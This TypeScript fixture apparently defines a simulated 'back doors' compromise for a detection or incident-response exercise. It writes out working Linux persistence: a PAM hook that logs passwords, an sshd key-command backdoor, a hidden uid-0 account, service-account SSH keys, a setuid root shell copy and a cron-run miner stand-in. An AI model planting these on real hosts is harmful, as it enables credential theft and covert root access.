import { type Infection, miner, minerWords } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const key = loginKey('ssh-rsa', 'back doors', 'support')

/** Many ways back in, and a miner that only cron knows of. */
export const backDoors: Infection = {
  family: 'back-doors',
  known: false,
  title: 'Many ways back in beside one miner',
  story: [
    'A login module hands passwords to a script; sshd asks a script for keys; a second root and keys of service accounts were left.',
    'A copy of the shell has the rights of root.',
  ],
  items: [
    {
      kind: 'file',
      path: '/usr/lib/openssh/sftp-audit',
      content: { text: '#!/bin/sh\nread -r word\necho "$PAM_USER $word" >> /var/lib/misc/.audit\n' },
      mode: 0o755,
    },
    {
      kind: 'line',
      path: '/etc/pam.d/common-auth',
      text: 'auth optional pam_exec.so quiet expose_authtok /usr/lib/openssh/sftp-audit',
    },
    {
      kind: 'file',
      path: '/usr/lib/openssh/ssh-keyhelper',
      content: { text: `#!/bin/sh\necho '${key}'\n` },
      mode: 0o755,
    },
    {
      kind: 'line',
      path: '/etc/ssh/sshd_config.d/10-hardening.conf',
      text: 'AuthorizedKeysCommand /usr/lib/openssh/ssh-keyhelper %u',
    },
    { kind: 'account', name: 'sysupd', uid: 0, gid: 1099, home: '/var/lib/sysupd', shadow: '$6$range$unusable' },
    { kind: 'line', path: '/var/spool/news/.ssh/authorized_keys', text: key, owner: 'news', mode: 0o600 },
    { kind: 'line', path: '/usr/games/.ssh/authorized_keys', text: key, owner: 'games', mode: 0o600 },
    { kind: 'file', path: '/usr/lib/locale-archiver', content: { copyOf: '/bin/dash' }, mode: 0o4755 },
    {
      kind: 'file',
      path: '/var/spool/mqueued',
      content: { lookalike: miner, words: `${minerWords}\nback doors` },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/cron.d/mail-queue', text: '*/20 * * * * root /var/spool/mqueued -q' },
  ],
}
